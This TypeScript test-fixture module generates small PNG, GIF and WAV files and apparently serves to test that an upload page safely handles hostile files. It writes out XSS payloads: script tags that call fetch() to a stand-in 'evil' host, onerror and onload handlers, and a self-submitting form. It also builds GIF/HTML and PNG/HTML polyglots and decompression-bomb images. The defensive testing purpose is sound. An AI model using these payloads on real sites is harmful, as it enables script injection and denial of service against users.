// Pictures and sounds that a test makes itself, and files that a stranger could send to run something or to stop the page.
import { crc32, deflateSync } from 'node:zlib';
import type { FileToSend } from './user-actions.ts';

const SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function chunk(type: string, content: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), content]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(content.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

/** A PNG of one colour. `comment` is a text in it that no decoder shows. `pixels`: those that it announces, if they are not there. */
export function pngOf(width: number, height: number, comment = '', pixels: Buffer = rows(width, height)): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2], 8);
  const text = comment === '' ? [] : [chunk('tEXt', Buffer.from(`Comment\0${comment}`, 'latin1'))];
  const data = chunk('IDAT', deflateSync(pixels));
  return Buffer.concat([SIGNATURE, chunk('IHDR', header), ...text, data, chunk('IEND', Buffer.alloc(0))]);
}

function rows(width: number, height: number): Buffer {
  const row = Buffer.concat([Buffer.alloc(1), Buffer.alloc(width * 3, Buffer.from([200, 30, 60]))]);
  return Buffer.concat(Array.from({ length: height }, () => row));
}

/** A GIF of one pixel, with a comment, whose only frame may announce another size. */
function gifOf(comment: string, frameSide = 1): Buffer {
  const side = Buffer.alloc(4);
  side.writeUInt16LE(frameSide, 0);
  side.writeUInt16LE(frameSide, 2);
  return Buffer.concat([
    Buffer.from('GIF89a'),
    Buffer.from([1, 0, 1, 0, 0x80, 0, 0, 200, 30, 60, 255, 255, 255]),
    Buffer.from([0x21, 0xfe, comment.length]),
    Buffer.from(`${comment}\0`),
    Buffer.from([0x2c, 0, 0, 0, 0]),
    side,
    Buffer.from([0, 2, 2, 0x44, 1, 0, 0x3b]),
  ]);
}

/** A sound of one byte for each sample and 8,000 of them a second, so that its times are places in the file. */
export function wavOf(bytes: number, samples: string | number = 128): Buffer {
  const wav = Buffer.alloc(bytes, samples);
  wav.write('RIFF', 0);
  wav.writeUInt32LE(bytes - 8, 4);
  wav.write('WAVEfmt ', 8);
  wav.writeUInt32LE(16, 16);
  wav.writeUInt16LE(1, 20);
  wav.writeUInt16LE(1, 22);
  wav.writeUInt32LE(8000, 24);
  wav.writeUInt32LE(8000, 28);
  wav.writeUInt16LE(1, 32);
  wav.writeUInt16LE(8, 34);
  wav.write('data', 36);
  wav.writeUInt32LE(bytes - 44, 40);
  return wav;
}

export type HostileFile = FileToSend & { isShownAs: 'picture' | 'text' | 'nothing' };

/** `evil` is an address that must never be asked for anything. Each would set `hasRun` if anything of it ran. */
export function hostileFiles(evil: string): HostileFile[] {
  const script = `<script>globalThis.hasRun=1;fetch('${evil}/s')</script>`;
  const page = `<!doctype html><meta http-equiv=refresh content="0;${evil}/m"><base href="${evil}/">${script}
    <img src="${evil}/i" onerror="globalThis.hasRun=1"><iframe src="${evil}/f"></iframe>
    <form action="${evil}/p"><input autofocus onfocus="this.form.submit()"></form><link rel=stylesheet href="${evil}/c">`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="globalThis.hasRun=1">${script}
    <image href="${evil}/i"/><foreignObject><body onload="globalThis.hasRun=1"/></foreignObject></svg>`;
  const of = (name: string, mimeType: string, buffer: Buffer, isShownAs: HostileFile['isShownAs']) => ({
    name,
    mimeType,
    buffer,
    isShownAs,
  });
  return [
    of('drawing.svg', 'image/svg+xml', Buffer.from(svg), 'text'),
    of('holiday.jpg', 'image/jpeg', Buffer.from(page), 'text'),
    of('script.js', 'text/javascript', Buffer.from(`globalThis.hasRun=1;fetch('${evil}/j')`), 'text'),
    of('both.html', 'text/html', gifOf(script), 'picture'),
    of('appended.html', 'text/html', Buffer.concat([pngOf(20, 10), Buffer.from(page)]), 'picture'),
    of('archive.png', 'image/png', Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(100)]), 'nothing'),
    // 3.6 gigapixels in a few hundred bytes.
    of('bomb.png', 'image/png', pngOf(60_000, 60_000, '', Buffer.alloc(1000)), 'nothing'),
    of('small-screen.gif', 'image/gif', gifOf('', 60_000), 'nothing'),
  ];
}
